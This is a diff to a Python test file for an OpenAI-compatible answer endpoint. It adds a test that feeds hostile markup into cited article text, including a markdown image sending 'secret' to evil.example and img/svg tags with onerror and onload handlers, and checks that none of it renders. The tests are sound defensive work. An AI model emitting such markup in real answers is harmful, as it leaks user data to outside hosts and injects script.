@@ -1,10 +1,12 @@
 """The OpenAI-compatible endpoint, asked with OpenAI's own client and with whatever else comes."""
 
 import json
+import re
 import threading
 import time
 import urllib.error
 import urllib.request
+from dataclasses import replace
 
 import httpx
 import openai
@@ -12,7 +14,8 @@ import pytest
 from browser import served
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from page_fakes import DELAY_EN, FORD, HACK, PAID, YEAR_EN, ScriptedAssistant
+from markdown_it import MarkdownIt
+from page_fakes import DELAY_EN, ENGLISH, FORD, HACK, PAID, YEAR_EN, ScriptedAssistant, cite, finished
 
 from ui import openai_form
 from ui.auth import Auth
@@ -66,6 +69,30 @@ def test_an_article_without_an_address_is_cited_in_a_form_of_our_own(assistant):
     cited = message.annotations[1].article_citation
     assert cited["article_id"] == "fr1" and message.content[cited["start_index"] : cited["end_index"]] == "[2]"
     assert "url" not in cited
+
+
+EVIL = "https://evil.example/"
+MARKUP = (
+    f"![x]({EVIL}a.png?d=secret)", f"[go]({EVIL})", f"![1]({EVIL})", f"See [r].\n\n[r]: {EVIL}", f"[1]: {EVIL}",
+    f"<img src={EVIL}x onerror=alert(1)>", f"<{EVIL}>", f"{EVIL}x[1]", "www.evil.example", "evil.example/x", "a@evil.example",
+    f"`{EVIL}` `a` <a href='{EVIL}'>b</a>", f"[![a]({EVIL}i)]({EVIL})", "//evil.example/x", f"<!-- --> <svg onload={EVIL}>",
+    "[go](\nhttps://evil.example/ 'x')", "mailto:a@evil.example",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("said", MARKUP)
+def test_no_client_makes_an_image_or_a_foreign_link_of_an_answer(said):
+    """Addresses are in code alone, which no client links, and nothing but text and the article's own link is rendered."""
+    quoting = cite(replace(ENGLISH, text=said, title=said), said, 1)
+    answer = finished("What?", f"It says “{said}” [1].", [quoting])
+    renderer = MarkdownIt("commonmark", {"html": True})
+    for model in ("onrecord", "onrecord-sources"):
+        html = renderer.render(openai_form.content(answer, model))
+        html = re.sub(r"<code>.*?</code>|<a href=\"https://example.org/roadster[^>]*>.*?</a>", "", html)
+        assert "evil" not in html and not re.search(r"<(?!/?(?:p|ul|li|ol|blockquote)\b)", html)
+    shown = openai_form.content(answer, "onrecord")
+    marks = [mark[mark["type"]] for mark in openai_form.annotations(answer)]
+    assert {shown[mark["start_index"] : mark["end_index"]] for mark in marks} == {"[1]"}
 
 
 def test_what_the_articles_do_not_say_is_said_and_cites_nothing(assistant):
@@ -262,11 +289,11 @@ def test_whatever_is_asked_is_understood_or_refused_by_name(options, messages):
 @pytest.mark.parametrize("question", [DELAY_EN, PAID, FORD, HACK])
 def test_annotations_point_at_markers(question):
     answer = ScriptedAssistant().script[question]
-    found = openai_form.annotations(answer)
+    found, text = openai_form.annotations(answer), openai_form.content(answer, "onrecord")
     assert len(found) == answer.text.count("[1]") + answer.text.count("[2]")
     for annotation in found:
         about = annotation[annotation["type"]]
-        assert answer.text[about["start_index"]] == "[" and answer.text[about["end_index"] - 1] == "]"
+        assert text[about["start_index"]] == "[" and text[about["end_index"] - 1] == "]"
 
 
 def until(holds, seconds=5):
